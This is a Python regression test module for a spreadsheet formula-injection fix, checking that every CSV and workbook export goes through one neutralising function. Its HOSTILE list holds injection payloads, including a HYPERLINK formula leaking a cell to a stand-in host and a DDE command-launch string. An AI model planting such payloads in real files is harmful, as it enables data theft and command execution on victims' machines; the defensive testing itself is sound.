"""Finding 5: spreadsheet formula injection. Every CSV and xlsx the app writes goes through
highneeds/spreadsheets.py, which neutralises text that a spreadsheet would run as a formula.

The class test reads every module's source and fails on a CSV or workbook writer anywhere else; the
regression tests for each export (planning workbook and CSV, import rejects file, forecast CLI) sit with
their areas' tests and here.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

import highneeds
from highneeds import spreadsheets

PACKAGE = Path(highneeds.__file__).parent
# Ways of writing a spreadsheet that bypass the neutraliser.
WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\.write_csv\(|\.write_excel\(|\.to_csv\(|\bWorkbook\(|"
    r"xlsxwriter|\.save\(\s*(out|buffer|stream|io\.BytesIO)|text/csv|spreadsheetml"
)
# A module that names a CSV or xlsx response must build its body through the one place.
RESPONSE_TYPES = re.compile(r"text/csv|spreadsheetml")


def test_no_module_writes_a_spreadsheet_except_through_the_one_place():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path.name == "spreadsheets.py" and path.parent == PACKAGE:
            continue
        source = path.read_text(encoding="utf-8")
        for number, line in enumerate(source.splitlines(), 1):
            if WRITERS.search(line) and not RESPONSE_TYPES.search(line):
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{number}: {line.strip()}")
        if RESPONSE_TYPES.search(source) and "spreadsheets" not in source and "exports" not in source:
            offenders.append(f"{path.relative_to(PACKAGE.parent)}: serves CSV/xlsx without highneeds.spreadsheets")
    assert offenders == [], "write CSV and xlsx through highneeds.spreadsheets:\n" + "\n".join(offenders)


def test_the_scan_would_catch_a_bypass():
    for line in (
        "w = csv.writer(out)",
        "csv.DictWriter(out, fieldnames=f)",
        "frame.write_csv(path)",
        "wb = Workbook()",
    ):
        assert WRITERS.search(line), line


@given(st.text())
def test_no_text_leaves_starting_a_formula_and_none_is_lost(value):
    safe = spreadsheets.neutralise(value)
    assert not safe.startswith(spreadsheets.FORMULA_LEADS)
    assert safe == value or safe == "'" + value
    assert (safe != value) == value.startswith(spreadsheets.FORMULA_LEADS)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_stay_numbers(value):
    assert spreadsheets.neutralise(value) == value


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_and_workbook_writers_neutralise_every_hostile_cell(tmp_path):
    text = spreadsheets.csv_text(["name"], [[h] for h in HOSTILE] + [[-5], ["plain"]])
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'" + h for h in HOSTILE] + ["-5", "plain"]

    wb = spreadsheets.new_workbook()
    for h in HOSTILE:
        wb.active.append([h, -5])
    loaded = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(wb)))
    values = [(row[0].value, row[0].data_type, row[1].value) for row in loaded.active.iter_rows()]
    assert values == [("'" + h, "s", -5) for h in HOSTILE]

    out = tmp_path / "frame.csv"
    spreadsheets.write_frame_csv(pl.DataFrame({"la": HOSTILE, "n": list(range(len(HOSTILE)))}), out)
    rows = list(csv.reader(out.open(newline="")))
    assert rows[0] == ["la", "n"] and [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
